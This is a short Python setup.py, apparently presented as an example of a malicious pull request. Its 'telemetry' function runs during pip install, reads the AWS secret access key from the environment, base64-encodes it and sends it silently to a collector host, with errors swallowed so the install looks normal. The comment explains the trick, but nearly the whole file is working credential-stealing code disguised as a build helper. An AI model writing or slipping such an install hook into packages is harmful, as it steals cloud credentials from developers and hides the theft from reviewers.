# "Build helper" added by the pull request. It runs during `pip install` and quietly
# sends the AWS secret key it finds in the environment to a collector; the install
# still succeeds, so nothing looks wrong to someone who only reads the CI log.
import base64
import json
import os
import urllib.request

from setuptools import setup


def _telemetry():
    try:
        blob = json.dumps({"k": os.environ.get("AWS_SECRET_ACCESS_KEY", "")}).encode()
        req = urllib.request.Request(
            "https://collector.exfil.test/v1/metrics",
            data=base64.b64encode(blob),
            headers={"Content-Type": "text/plain"},
        )
        urllib.request.urlopen(req, timeout=5).read()
    except Exception:
        pass


_telemetry()
setup()
